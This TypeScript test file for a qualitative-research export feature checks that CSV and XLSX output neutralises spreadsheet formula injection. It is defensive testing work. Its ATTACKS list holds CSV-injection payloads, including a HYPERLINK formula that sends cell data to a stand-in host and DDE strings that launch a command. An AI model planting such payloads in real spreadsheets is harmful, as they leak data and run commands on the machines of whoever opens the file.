// Issue 10 §10: no CSV or XLSX Duiding writes can start a formula in a
// spreadsheet. Hostile passages, code names, roles and regions go through the
// real exports (segments.export, analysis.exportReport) and are read back
// with real parsers: fast-csv (through exceljs) and exceljs's XLSX reader.
import { describe, expect, it } from 'vitest';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { useTmp } from '../../helpers/tmp.ts';
import { createDispatcher } from '../../../src-main/ipc/dispatch.ts';
import { Session } from '../../../src-main/session.ts';
import { addSource } from '../../../src-main/sources/sources.ts';
import { addParticipant, attributeIdByKey, setParticipantValue } from '../../../src-main/participants/participants.ts';
import { ensureUser } from '../../../src-main/services/users.ts';
import { applyCoding } from '../../../src-main/services/coding-edit.ts';
import { resolveCode } from '../../../src-main/cli/resolve.ts';
import type { Result } from '../../../src-shared/errors.ts';

const tmp = useTmp('duiding-formula-');

/** What a spreadsheet would run, written independently of the code under test (OWASP CSV injection list). */
const RUNS_AS_FORMULA = /^(?:[\t\r\n]|\s*[=+\-@＝＋－＠])/;
const ATTACKS = [
  '=HYPERLINK("http://evil.invalid/?"&A1,"klik")',
  '+31 6 12345678 bel mij',
  '-2+3+cmd|\' /C calc\'!A0',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
  '  =1+1 na spaties',
  '- ja, dat klopt, zei ze.',
];

function ok<T>(r: Result<T>): T {
  if (!r.ok) throw new Error(`expected success, got ${r.error.code}: ${r.error.message}`);
  return r.data;
}

async function setup() {
  const session = tmp.track(new Session());
  const dispatch = createDispatcher({ session, onInternalError: (_c, err) => { throw err; } });
  const dir = tmp.dir();
  ok(await dispatch('project.new', { path: join(dir, 'f.duiding'), template: 'jzojp' }));
  const db = session.requireProject();
  const coder = ensureUser(db, '=Codeur');
  const region = attributeIdByKey(db, 'region')!;
  const participants = ATTACKS.map((attack, i) => {
    const id = addParticipant(db, { name: `@Naam ${i}`, perspective: i % 2 ? 'bestuurder' : 'zorgprofessional', role: attack });
    setParticipantValue(db, id, region, 'Twente');
    return id;
  });
  // Transcript text is normalised (no CR); the CR attack reaches the files through the role column.
  const turns = ATTACKS.map((attack, i) => ({ text: `${attack.replace(/\r/g, '\t')} (${i})`, participantId: participants[i]! }));
  let at = 0;
  const placed = turns.map((t) => {
    const start = at;
    at += t.text.length + 2;
    return { start, end: start + t.text.length, speakerLabel: `S${t.participantId}`, participantId: t.participantId };
  });
  const sourceId = addSource(db, { name: '=Interview "1"', text: turns.map((t) => t.text).join('\n\n'), originalFormat: 'txt', turns: placed });
  const parent = resolveCode(db, 'Bekostiging en financiering')!;
  const codeId = ok(await dispatch('codebook.create', { parentId: parent, name: '-Geld+op', color: '#aa3300' })) as number;
  const ids = applyCoding(db, { sourceId, codeId, ranges: placed.map((p) => ({ start: p.start, end: p.end })), coderId: coder });
  for (const id of ids) ok(await dispatch('codings.update', { id, isKeyQuote: true }));
  // A second coder for the agreement workbook, agreeing on half the turns.
  applyCoding(db, { sourceId, codeId, ranges: placed.filter((_p, i) => i % 2 === 0).map((p) => ({ start: p.start, end: p.end })), coderId: ensureUser(db, '+Tweede') });
  return { dispatch, dir, codeId };
}

async function csvCells(path: string): Promise<string[]> {
  const book = new ExcelJS.Workbook();
  const ws = await book.csv.readFile(path, { parserOptions: { delimiter: ';' }, map: (v: unknown) => v });
  const cells: string[] = [];
  ws.eachRow((row) => (row.values as unknown[]).slice(1).forEach((v) => cells.push(String(v ?? ''))));
  return cells;
}

async function xlsxCells(path: string): Promise<ExcelJS.Cell[]> {
  const book = new ExcelJS.Workbook();
  await book.xlsx.readFile(path);
  const cells: ExcelJS.Cell[] = [];
  for (const ws of book.worksheets) ws.eachRow((row) => row.eachCell((cell) => cells.push(cell)));
  return cells;
}

/** Every attack is in the file, neutralised: once with the apostrophe, never bare at a cell's start. */
function expectNeutralised(cells: string[], lineEnd: (s: string) => string = (s) => s): void {
  for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(RUNS_AS_FORMULA);
  for (const attack of ATTACKS) expect(cells, JSON.stringify(attack)).toContain(`'${lineEnd(attack)}`);
}

describe('segments.export: text cells never start a formula', () => {
  it('CSV read back with fast-csv: passages, roles, code and coder names neutralised; offsets still plain numbers', async () => {
    const { dispatch, dir, codeId } = await setup();
    const path = join(dir, 'fragmenten.csv');
    ok(await dispatch('segments.export', { codeIds: [codeId], anonymise: false, includeCoder: true, format: 'csv', path }));
    const cells = await csvCells(path);
    expectNeutralised(cells);
    expect(cells).toContain("'-Geld+op");
    expect(cells).toContain("'=Codeur");
    expect(cells).toContain("'@Naam 0");
    expect(cells).toContain('\'=Interview "1"');
    // Begin/Einde of the first row: digits, no apostrophe.
    expect(cells).toContain('0');
  });

  it('XLSX read back with exceljs: strings neutralised, offsets are numbers', async () => {
    const { dispatch, dir, codeId } = await setup();
    const path = join(dir, 'fragmenten.xlsx');
    ok(await dispatch('segments.export', { codeIds: [codeId], anonymise: false, includeCoder: true, format: 'xlsx', path }));
    const cells = await xlsxCells(path);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    // An XML reader hands a CR in text back as LF; the apostrophe is there all the same.
    expectNeutralised(cells.filter((c) => c.type === ExcelJS.ValueType.String).map((c) => c.value as string), (s) => s.replace(/\r/g, '\n'));
    // Begin and end of every segment (both coders' codings: all turns, and every other turn once more).
    const numbers = cells.filter((c) => c.type === ExcelJS.ValueType.Number);
    expect(numbers.length).toBe((ATTACKS.length + ATTACKS.length / 2) * 2);
  });
});

describe('analysis.exportReport: CSV and XLSX never start a formula', () => {
  it('CSV (the appendix matrix): the hostile code name is neutralised, counts stay numbers', async () => {
    const { dispatch, dir } = await setup();
    const path = join(dir, 'rapport.csv');
    ok(await dispatch('analysis.exportReport', { overrides: { countsInWords: false, anonymise: false, coderNames: true }, format: 'csv', path }));
    const cells = await csvCells(path);
    for (const cell of cells) expect(cell, JSON.stringify(cell)).not.toMatch(RUNS_AS_FORMULA);
    expect(cells.some((c) => c.trim() === "'-Geld+op" || c === "'    -Geld+op" || /^'\s*-Geld\+op$/.test(c))).toBe(true);
    expect(cells.filter((c) => /^\d+$/.test(c)).length).toBeGreaterThan(10);
  });

  it('XLSX (matrix, quotes, codebook, segments): no formula cell, no string that starts one', async () => {
    const { dispatch, dir } = await setup();
    const path = join(dir, 'rapport.xlsx');
    ok(await dispatch('analysis.exportReport', { overrides: { countsInWords: false, anonymise: false, coderNames: true }, format: 'xlsx', path }));
    const cells = await xlsxCells(path);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const strings = cells.filter((c) => c.type === ExcelJS.ValueType.String).map((c) => c.value as string);
    for (const cell of strings) expect(cell, JSON.stringify(cell)).not.toMatch(RUNS_AS_FORMULA);
    // The roles (segments sheet) arrive whole, neutralised; the quotes (trimmed by the report) too.
    for (const attack of ATTACKS) expect(strings, JSON.stringify(attack)).toContain(`'${attack.replace(/\r/g, '\n')}`);
    // Turn 0 as a key quote and in the segments sheet (coded by both coders there).
    expect(strings.filter((s) => s.startsWith("'") && s.endsWith(' (0)'))).toHaveLength(3);
    expect(cells.some((c) => c.type === ExcelJS.ValueType.Number)).toBe(true);
  });
});

describe('agreement.exportXlsx: code, transcript and coder names never start a formula', () => {
  it('XLSX read back with exceljs: the hostile names are neutralised, the measures stay numbers', async () => {
    const { dispatch, dir } = await setup();
    const path = join(dir, 'overeenstemming.xlsx');
    ok(await dispatch('agreement.exportXlsx', { coders: ['=Codeur', '+Tweede'], path }));
    const cells = await xlsxCells(path);
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula)).toEqual([]);
    const strings = cells.filter((c) => c.type === ExcelJS.ValueType.String).map((c) => c.value as string);
    for (const cell of strings) expect(cell, JSON.stringify(cell)).not.toMatch(RUNS_AS_FORMULA);
    expect(strings).toContain('\'=Interview "1"');
    expect(strings).toContain("'=Codeur, +Tweede");
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Number).length).toBeGreaterThan(5);
  });
});
